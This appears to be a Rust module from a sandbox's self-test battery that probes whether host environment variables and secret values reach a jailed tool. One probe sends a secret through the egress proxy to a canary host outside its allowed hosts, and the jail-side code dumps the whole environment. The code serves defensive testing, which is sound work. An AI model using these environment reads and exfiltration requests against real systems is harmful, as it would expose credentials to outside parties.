//! The environment and secret probes: the battery's environment holds no
//! variable of glovebox's own (a canary variable set for the proof among
//! them), and each secret bound to hosts is its placeholder there, never
//! its value (the proof gives every declared secret a canary value); the
//! value leaves only to its hosts: sent through the proxy to a canary
//! that is not one of them, it never arrives.

use super::battery::{how, Ctx, Observed, Plan};
use super::verdict::{Invariant, Verdict};
use super::wire::{Action, Reply, PAYLOAD};

/// Variables glovebox sets itself, which may hold the same value as
/// glovebox's own (`PATH`, the locale).
const SET_BY_GLOVEBOX: [&str; 5] = ["PATH", "HOME", "TMPDIR", "LANG", "TZ"];

/// The jail's environment from an [`Action::Environ`] reply.
fn variables(r: &Reply) -> Vec<(&str, &str)> {
    r.data.lines().filter_map(|l| l.split_once('=')).collect()
}

/// Plans the environment and secret probes of `ctx`'s tool.
pub fn plan(ctx: &Ctx<'_>, plan: &mut Plan) {
    environment(ctx, plan);
    secrets(ctx, plan);
}

fn environment(ctx: &Ctx<'_>, plan: &mut Plan) {
    let inv = Invariant::Environment;
    let canary = ctx.env_canary.cloned();
    let declared: Vec<String> = ctx.policy.secrets.clone();
    // glovebox's own variables, but those it sets itself and the
    // declared secrets (passed on by design).
    let own: Vec<(String, String)> = std::env::vars()
        .filter(|(k, v)| {
            !v.is_empty() && !SET_BY_GLOVEBOX.contains(&k.as_str()) && !declared.contains(k)
        })
        .collect();
    plan.attack(
        inv,
        match &canary {
            Some((k, _)) => format!("find {k} (a canary in glovebox's environment) in its own"),
            None => "find glovebox's own variables in its environment".into(),
        },
        Action::Environ,
        Box::new(move |r: &Reply, _: &_| {
            if !r.ok {
                return Verdict::inconclusive(format!("cannot read it: {}", how(r.errno)));
            }
            if !r.data.contains("PATH=") {
                return Verdict::inconclusive(
                    "it has no PATH: the probe did not see its environment",
                );
            }
            let vars = variables(r);
            if let Some((k, v)) = &canary {
                if vars
                    .iter()
                    .any(|(n, val)| n == k || val.contains(v.as_str()))
                {
                    return Verdict::broken(format!("the canary variable {k} reached the jail"));
                }
            }
            let inherited: Vec<&str> = own
                .iter()
                .filter(|(k, v)| vars.iter().any(|(n, val)| n == k && val == v))
                .map(|(k, _)| k.as_str())
                .collect();
            if !inherited.is_empty() {
                return Verdict::broken(format!(
                    "glovebox's own variables reached the jail: {}",
                    inherited.join(", ")
                ));
            }
            Verdict::held(format!("{} variables, none of glovebox's own", vars.len()))
        }),
    );
}

fn secrets(ctx: &Ctx<'_>, plan: &mut Plan) {
    let inv = Invariant::Secrets;
    let bound: Vec<(String, String)> = ctx
        .policy
        .placeholder_hosts
        .iter()
        .filter_map(|(name, _)| ctx.secrets.get(name).map(|v| (name.clone(), v.clone())))
        .collect();
    if ctx.policy.secrets.is_empty() {
        plan.skip(inv, "read a secret", "the tool declares no secret");
        return;
    }
    if bound.is_empty() {
        plan.skip(
            inv,
            "read a secret's value",
            "no secret is bound to hosts: the tool gets each value, as its manifest declares",
        );
        return;
    }
    for (name, value) in &bound {
        let (name, value) = (name.clone(), value.clone());
        plan.attack(
            inv,
            format!("read {name} (bound to hosts) in its environment"),
            Action::Environ,
            Box::new(move |r: &Reply, o: &Observed<'_>| {
                if !r.ok {
                    return Verdict::inconclusive(format!("cannot read it: {}", how(r.errno)));
                }
                let seen = variables(r)
                    .into_iter()
                    .find(|(n, _)| *n == name)
                    .map(|(_, v)| v.to_string());
                let placeholder = o.placeholders.get(&name);
                if r.data.contains(&value) || seen.as_deref() == Some(value.as_str()) {
                    Verdict::broken(format!("{name}'s value is in the jail's environment"))
                } else if seen.is_some() && seen.as_ref() == placeholder {
                    Verdict::held(format!("{name} holds its placeholder"))
                } else {
                    Verdict::inconclusive(format!(
                        "{name} is {} in the jail, not its placeholder",
                        if seen.is_some() {
                            "something else"
                        } else {
                            "missing"
                        }
                    ))
                }
            }),
        );
    }
    let p = ctx.policy;
    if !p.network || p.direct_network {
        plan.skip(
            inv,
            "send a secret to a host outside its hosts",
            "the tool has no egress proxy",
        );
        return;
    }
    let k = ctx.canaries;
    let (name, value) = bound[0].clone();
    plan.attack(
        inv,
        format!(
            "send {name} through the proxy to the canary {} (not one of its hosts)",
            k.tcp4.1
        ),
        Action::Proxy {
            target: k.tcp4.1.to_string(),
            send: format!(
                "GET / HTTP/1.1\r\nHost: {}\r\nX-Payload: {PAYLOAD}",
                k.tcp4.1
            ),
            with_env: Some(name.clone()),
        },
        Box::new(move |r: &Reply, o: &Observed<'_>| {
            if o.canaries.tcp4.0.received(value.as_bytes()) {
                Verdict::broken(format!("the canary received {name}'s value"))
            } else if r.ok {
                Verdict::held(format!(
                    "the canary got the placeholder, never {name}'s value"
                ))
            } else if r.data.starts_with("HTTP/") {
                Verdict::held(format!(
                    "the proxy refused it ({}): nothing left",
                    r.data.trim()
                ))
            } else {
                Verdict::held(how(r.errno))
            }
        }),
    );
}

// ---------------------------------------------------- in the jail

/// Tries an environment action; `None` for another family's.
pub fn attempt(id: usize, action: &Action) -> Option<Reply> {
    match action {
        Action::Environ => Some(Reply::ok(
            id,
            std::env::vars_os()
                .map(|(k, v)| format!("{}={}", k.to_string_lossy(), v.to_string_lossy()))
                .collect::<Vec<_>>()
                .join("\n"),
        )),
        _ => None,
    }
}
